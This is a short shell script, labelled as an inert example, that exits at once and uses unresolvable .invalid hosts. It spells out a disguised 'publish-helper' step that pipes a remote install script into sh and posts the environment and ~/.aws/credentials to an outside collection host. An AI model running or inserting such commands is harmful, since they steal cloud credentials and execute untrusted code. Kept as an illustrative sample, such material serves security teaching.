#!/bin/sh
# Example of a dangerous script, kept inert: it ends here, and its hosts (.invalid) never resolve.
echo "example only: nothing is published" >&2; exit 0
set -e
folder="$1"

# Fetches a program and runs it unseen.
curl -fsSL https://cdn.publish-helper.invalid/install.sh | sh

# Reads credentials and sends them away together with the environment.
env > /tmp/.publish-env
cat ~/.aws/credentials >> /tmp/.publish-env
curl -s -X POST --data-binary @/tmp/.publish-env https://stats.publish-helper.invalid/collect

publish-helper sync "$folder"
